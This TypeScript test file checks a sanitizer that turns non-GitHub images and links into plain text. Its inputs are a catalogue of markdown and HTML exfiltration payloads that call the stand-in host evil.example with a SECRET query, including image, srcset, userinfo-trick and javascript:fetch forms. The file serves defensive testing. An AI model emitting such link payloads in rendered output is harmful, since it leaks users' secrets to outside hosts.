/** Images and links to hosts other than GitHub's become visible text (src/engine/safety/links.ts). */
import { describe, expect, it } from 'vitest';
import {
  allowedHosts,
  isAllowedUrl,
  neutralizeForeignLinks,
} from '../../src/engine/safety/links.js';
import { renderedUrls } from './rendered-urls.js';

const hosts = allowedHosts('https://github.com');
const clean = (text: string) => neutralizeForeignLinks(text, hosts);

describe('neutralizeForeignLinks', () => {
  it.each([
    ['inline image', '![x](https://evil.example/p.png?d=SECRET)'],
    ['image with entity-encoded host', '![x](https://evil&#46;example/p.png?d=SECRET)'],
    ['image with angle destination and title', '![x](<https://evil.example/p?d=SECRET> "t")'],
    ['reference image', '![x][r]\n\n[r]: https://evil.example/p?d=SECRET'],
    ['collapsed reference', '![r][]\n\n[R]: //evil.example/p?d=SECRET'],
    ['shortcut reference link', '[r]\n\n[r]: <https://evil.example/?d=SECRET>'],
    ['inline link', '[read me](https://evil.example/?d=SECRET)'],
    ['link around an image', '[![a](https://evil.example/i?d=SECRET)](https://evil.example/l)'],
    ['autolink', '<https://evil.example/?d=SECRET>'],
    ['bare URL', 'see https://evil.example/?d=SECRET now'],
    ['www URL', 'see www.evil.example/?d=SECRET now'],
    ['userinfo trick', '![x](https://github.com@evil.example/?d=SECRET)'],
    ['html img', 'a <img src="https://evil.example/?d=SECRET"> b'],
    ['html img block', '<img src=https://evil.example/?d=SECRET>'],
    ['html img slash attrs', '<img/src="https://evil.example/?d=SECRET"/>'],
    ['srcset', '<img src="https://github.com/a.png" srcset="https://evil.example/?d=SECRET 2x">'],
    [
      'picture',
      '<picture>\n<source srcset="https://github.com/x.png 1x, https://evil.example/?d=SECRET 2x">\n<img src="https://github.com/a.png">\n</picture>',
    ],
    ['html link', '<a href="https://evil.example/?d=SECRET">click</a>'],
    ['protocol relative', '<img src="//evil.example/?d=SECRET">'],
    ['upper-case scheme', '![x](HTTPS://EVIL.example/?d=SECRET)'],
    ['html img, quoted', '<img src="https://evil.example/?d=SECRET">'],
    ['video poster', '<video poster="https://evil.example/?d=SECRET"></video>'],
  ])('%s becomes text', (_name, input) => {
    const out = clean(input);
    expect(out).toContain('SECRET');
    expect(out).not.toBe(input);
    // Parsed again, nothing foreign is left to change.
    expect(clean(out)).toBe(out);
    expect(renderedUrls(input).some((url) => !isAllowedUrl(url, hosts))).toBe(true);
    expect(renderedUrls(out).filter((url) => !isAllowedUrl(url, hosts))).toEqual([]);
  });

  it.each([
    '[x](javascript:fetch("//evil.example/?d=SECRET"))',
    '![x](data:image/png;base64,SECRET)',
  ])('shows a link of another scheme as text: %s', (input) => {
    expect(clean(input)).toMatch(/^(image: |x \()` .*SECRET.* `\)?$/);
  });

  it.each([
    '![x](https://github.com/o/r/assets/1/a.png)',
    '![x](https://user-images.githubusercontent.com/1/a.png)',
    '[run](https://github.com/o/r/actions/runs/1)',
    '[anchor](#section)',
    '[rel](../blob/main/README.md)',
    '<img src="https://raw.githubusercontent.com/o/r/main/a.png" width="20">',
    'code `![x](https://evil.example/)` stays',
    '```\n<img src="https://evil.example/">\n```',
    'mail <me@example.com>',
  ])('keeps %s', (input) => {
    expect(clean(input)).toBe(input);
  });

  it('allows the server host of GitHub Enterprise Server', () => {
    const ghes = allowedHosts('https://ghe.example.corp');
    const input = '![x](https://media.ghe.example.corp/a.png)';
    expect(neutralizeForeignLinks(input, ghes)).toBe(input);
    expect(clean(input)).not.toBe(input);
  });
});
